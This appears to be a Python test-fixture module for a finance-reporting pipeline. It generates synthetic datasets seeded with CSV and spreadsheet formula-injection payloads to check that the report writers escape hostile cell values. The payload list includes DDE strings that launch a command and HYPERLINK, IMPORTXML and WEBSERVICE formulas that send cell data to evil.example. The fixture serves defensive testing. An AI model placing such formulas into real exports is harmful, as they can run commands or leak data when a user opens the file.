"""Synthetic report datasets for writer tests: every spec, a few rows, hostile text everywhere."""

import datetime as dt
import json
import random

import pyarrow as pa

from finops_pipeline.lib.reporting.datasets import SPECS, Dataset
from finops_pipeline.lib.reporting.periods import Period
from finops_pipeline.lib.reporting.safety import DANGEROUS_FIRST, PLAIN_NUMBER_RE
from finops_sandbox.world import HOSTILE_TAG_VALUES

# Well-known CSV / formula injection payloads (OWASP, PayloadsAllTheThings) plus the sandbox's own.
INJECTION_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=1+2";=1+2',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+2",
    "\r=1+2",
    "-cmd",
    "+1-1",
    "@A1",
    "=10+20+cmd|' /C calc'!A0",
    *HOSTILE_TAG_VALUES,
)
PERIOD = Period(dt.date(2026, 10, 1), dt.date(2026, 11, 1), "previous_full_month")


def risky(value: str) -> bool:
    import re

    return bool(value) and value[0] in DANGEROUS_FIRST and not re.match(PLAIN_NUMBER_RE, value)


def _value(kind: str, name: str, i: int, rng: random.Random):
    if kind == "date":
        return dt.date(2026, 10, 1) + dt.timedelta(days=i % 31)
    if kind == "currency":
        return round(rng.uniform(-50, 5000), 6)
    if kind == "percent":
        return round(rng.uniform(0, 100), 4)
    if kind == "integer":
        return i * 7
    if kind == "number":
        return round(rng.uniform(0, 10), 3)
    if kind == "bool":
        return i % 2 == 0
    if kind == "json":
        payload = INJECTION_PAYLOADS[i % len(INJECTION_PAYLOADS)]
        return json.dumps({"Owner": payload, payload: "value", "Nested": {"k": [payload, 1.5]}})
    if name == "severity":
        return ("high", "medium", "low")[i % 3]
    if name == "dimension":
        return ("overall", "tag_key", "account")[min(i, 2)]
    return INJECTION_PAYLOADS[(i + len(name)) % len(INJECTION_PAYLOADS)] if i % 2 else f"{name}-{i}"


def datasets(rows: int = 20, seed: int = 7) -> list[Dataset]:
    rng = random.Random(seed)
    out = []
    for spec in SPECS:
        n = 0 if spec.name == "budget_status" else rows
        columns = {
            name: [_value(kind, name, i, rng) for i in range(n)] for name, kind in spec.columns.items()
        }
        table = pa.table(columns) if n else pa.table({c: pa.array([], pa.string()) for c in spec.columns})
        note = "No data: marts.budget_status does not exist yet (its asset has not run)." if not n else ""
        out.append(Dataset(spec, table, "synthetic" if n else "none", note))
    return out


def big_dataset(rows: int) -> Dataset:
    """One large cost_by_day-shaped dataset (for the Excel row cap)."""
    spec = SPECS[0]
    day = dt.date(2020, 1, 1)
    table = pa.table(
        {
            "usage_date": [day + dt.timedelta(days=i % 2000) for i in range(rows)],
            "unblended_usd": [float(i) for i in range(rows)],
            "amortized_usd": [float(i) / 2 for i in range(rows)],
            "net_unblended_usd": [-float(i) for i in range(rows)],
            "is_estimated": [False] * rows,
        }
    )
    return Dataset(spec, table, "synthetic")
